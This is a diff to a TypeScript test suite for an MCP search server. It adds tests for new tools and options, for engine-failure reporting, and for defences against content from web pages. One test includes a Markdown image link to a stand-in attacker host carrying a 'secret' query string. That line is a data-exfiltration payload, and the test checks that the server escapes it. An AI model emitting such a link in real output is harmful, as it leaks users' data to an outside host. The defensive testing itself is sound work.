@@ -4,6 +4,7 @@ import { found, LIMITS, NOW, setUpApi } from '../../api/api.test-harness.ts'
 import { Refusal } from '../../errors.ts'
 import type { Scope } from '../../keys/scopes.ts'
 import type { EngineReport } from '../../search/engine-report.ts'
+import { SearchRefusal } from '../../search/search.ts'
 import { unknownLanguage } from '../../translate/translation-backends.ts'
 import { callCompat, GOOD_KEY } from '../compat.test-harness.ts'
 
@@ -74,7 +75,7 @@ describe('MCP', () => {
   })
 
   it('lists the tools that the key may use and the client wants', async () => {
-    expect(await toolsOf()).toEqual(['search', 'answer', 'cards', 'find_place', 'translate', 'suggest'])
+    expect(await toolsOf()).toEqual(['search', 'answer', 'cards', 'find_place', 'translate', 'suggest', 'plan_search'])
     expect(await toolsOf({ url: '/mcp?tools=translate,search,nonsense' })).toEqual(['search', 'translate'])
     const key = stage.addKey({ scopes: new Set(['maps']) })
     expect(await toolsOf({ headers: { ...HEADERS, authorization: `Bearer ${key}` } })).toEqual(['find_place'])
@@ -116,7 +117,7 @@ describe('MCP', () => {
 
   it('definitions are short', async () => {
     const { message } = await send('tools/list', {})
-    expect(JSON.stringify(message.result.tools).length).toBeLessThan(5_000)
+    expect(JSON.stringify(message.result.tools).length).toBeLessThan(6_000)
   })
 
   it('405: GET and DELETE, in the shape of JSON-RPC, and HEAD', async () => {
@@ -128,6 +129,44 @@ describe('MCP', () => {
       const reply = await callCompat(stage, '/mcp', { method })
       expect(reply).toMatchObject({ status: 405, headers: { allow: 'POST' }, json: { jsonrpc: '2.0', id: null } })
     }
+  })
+})
+
+describe('min_indexes and plan_search', () => {
+  it('a search that wants several indexes says what was left out, and why a page is empty', async () => {
+    const asked = async (confirmation: { wanted: number; answered: number; left: number }) => {
+      stage.says.search = async (tab, request) => found(tab, request, { confirmation })
+      const result = await call('search', { query: 'oak', min_indexes: '2' }, { url: '/mcp?structured=1' })
+      return [result.content[0].text, result.structuredContent.indexes]
+    }
+    expect(await asked({ wanted: 2, answered: 3, left: 7 })).toEqual([
+      expect.stringContaining('7 results were left out because fewer than 2 independent indexes returned them.'),
+      { wanted: 2, answered: 3, left_out: 7 },
+    ])
+    const [text] = await asked({ wanted: 2, answered: 1, left: 7 })
+    expect(text).toContain('Only 1 independent index answered, so no result can come from 2: 7 results were left out.')
+    expect(stage.asked[0]?.[2]).toMatchObject({ minIndexes: 2 })
+  })
+
+  it('a plan asks nobody and isn’t counted', async () => {
+    const { content } = await call('plan_search', { query: 'oak', tab: 'news', time_range: 'week' })
+    expect(content[0].text).toBe('Plan for "oak" · news · 0 US$')
+    expect(stage.asked).toEqual([['preview', 'news', expect.objectContaining({ text: 'oak', date: 'w' })]])
+    expect(stage.counted).toEqual([])
+  })
+})
+
+describe('what a client may leave out', () => {
+  it('is everything but what a tool is about', async () => {
+    const { json } = await send('tools/list', {})
+    const required = json.result.tools.map(({ name, inputSchema }: ListedTool) => [name, inputSchema.required])
+    expect(Object.fromEntries(required)).toMatchObject({
+      search: ['query'],
+      answer: ['query'],
+      cards: ['query'],
+      translate: ['text', 'target'],
+      suggest: ['query'],
+    })
   })
 })
 
@@ -152,6 +191,42 @@ describe('what a model reads', () => {
     About the climate.
 
 Engines: all answered.`)
+  })
+
+  it('a page cannot have a picture loaded by whoever shows the text as Markdown', async () => {
+    const description = 'See ![p](https://evil.example/p.png?q=secret) here.'
+    stage.says.search = async (tab, request) => found(tab, request, { hits: [hit({ description })] as never })
+    const { content } = await call('search', { query: 'climate' })
+    expect(content[0].text).toContain('See !\\[p](https://evil.example/p.png?q=secret) here.')
+  })
+
+  it('content_tokens: the passages of the first pages, each of which counts as read', async () => {
+    const key = stage.addKey({ scopes: new Set<Scope>(['search', 'read']) })
+    const headers = { ...HEADERS, authorization: `Bearer ${key}` }
+    stage.says.search = async (tab, request) => found(tab, request, { hits: [hit({})] as never })
+    stage.says.read = async () => ({
+      ok: true,
+      address: 'https://example.org/',
+      fetchedAt: NOW,
+      page: {
+        type: 'html',
+        title: 'Sea',
+        byline: '',
+        siteName: '',
+        language: 'en',
+        published: '',
+        content: '# Sea\n\nThe climate of the sea.\n\nSomething else.',
+      },
+    })
+    const args = { query: 'climate', content_tokens: '1000' }
+    const { content, structuredContent } = await call('search', args, { url: '/mcp?structured=1', headers })
+    expect(content[0].text).toContain('\n    From 7 (Sea): The climate of the sea.')
+    expect(structuredContent.results[0].passages).toEqual([
+      { start: 7, heading: 'Sea', text: 'The climate of the sea.' },
+    ])
+    expect(stage.counted.toSorted()).toEqual(['read', 'web_search'])
+    const { isError, content: refused } = await call('search', args)
+    expect([isError, refused[0].text]).toEqual([true, 'This API key does not have the read scope.'])
   })
 
   it('a page cannot forge a result, a line of ours or a direction of writing', async () => {
@@ -195,6 +270,12 @@ Engines: all answered.`)
     expect(content[0].text.split('\n').at(-1)).toBe(`Engines: ${sentence}`)
   })
 
+  it('how many results rules have left out, so that an empty page does not look as if there were nothing', async () => {
+    stage.says.search = async (tab, request) => found(tab, request, { blocked: 2 })
+    const { content } = await call('search', { query: 'climate' })
+    expect(content[0].text).toContain('2 results were left out because rules block their sites.')
+  })
+
   it('a correction, the picture of an image, and the length of a video', async () => {
     const image = { title: 'Bird', url: 'https://a.example/', thumbnailUrl: 'https://a.example/bird.jpg' }
     stage.says.search = async (tab, request) => found(tab, request, { hits: [image] as never, correction: 'bird' })
@@ -211,15 +292,17 @@ Engines: all answered.`)
     const bounds = {
       includeDomains: ['a.example', 'b.example'],
       excludeDomains: ['c.example'],
+      preferDomains: ['d.example'],
       dateFrom: Date.UTC(2026, 10, 1),
       dateTo: Date.UTC(2026, 10, 10) - 1,
     }
     const days = { date_from: '2026-11-01', date_to: '2026-11-09' }
+    const others = { exclude_domains: ['c.example'], prefer_domains: 'd.example' }
     for (const include_domains of [['b.example', 'https://www.a.example/'], 'a.example, b.example'])
-      await call('search', { query: 'climate', include_domains, exclude_domains: ['c.example'], ...days })
+      await call('search', { query: 'climate', include_domains, ...others, ...days })
     const requests = stage.asked.map(([, , request]) => request)
     expect(requests).toEqual([expect.objectContaining(bounds), expect.objectContaining(bounds)])
-    const unused = { include_domains: null, exclude_domains: '', date_from: null, date_to: '' }
+    const unused = { include_domains: null, exclude_domains: '', prefer_domains: [], date_from: null, date_to: '' }
     expect((await call('search', { query: 'climate', ...unused })).isError).toBeUndefined()
     const refused = await call('search', { query: 'climate', tab: 'images', date_from: '2026-11-01' })
     expect(refused).toMatchObject({
@@ -264,7 +347,7 @@ Engines: all answered.`)
       '0 results for "climate" · web · complete',
     ])
     const misnamed = (await call('search', { q: 'climate' })).content[0].text.split('\n')
-    expect(misnamed).toEqual([expect.stringMatching(/no such arguments: q\./), 'query: Send a text.'])
+    expect(misnamed).toEqual([expect.stringMatching(/no such arguments: q\./), 'query: Send a query.'])
   })
 
   it('cards, a line for each fact', async () => {
@@ -324,7 +407,7 @@ describe('what is refused', () => {
       const { isError, content } = await call(name, args, sent)
       return [isError, content[0].text]
     }
-    expect(await sentence('search', {})).toEqual([true, 'query: Send a text.'])
+    expect(await sentence('search', {})).toEqual([true, 'query: Send a query.'])
     stage.says.search = async () => {
       throw new Refusal('no_engine_responded', 'No search engine responded. Try again in 5 seconds.')
     }
@@ -333,8 +416,12 @@ describe('what is refused', () => {
       'No search engine responded. Try again in 5 seconds.',
     ])
     stage.says.search = async () => {
-      const headers = { 'Engine-Status': 'engine_a;timeout;ms=9, engine_b;budget;ms=1, engine_c;skipped;for=date' }
-      throw new Refusal('no_engine_responded', 'No search engine responded.', headers)
+      const reports: EngineReport[] = [
+        { slot: 'engine_a', outcome: 'failed', kind: 'timeout', ms: 9, wasAsked: true },
+        { slot: 'engine_b', outcome: 'failed', kind: 'overBudget', ms: 1, wasAsked: false },
+        { slot: 'engine_c', outcome: 'skipped', reason: 'date' },
+      ]
+      throw new SearchRefusal('no_engine_responded', 'No search engine responded.', { seconds: 5, reports })
     }
     expect(await sentence('search', { query: 'a' })).toEqual([
       true,
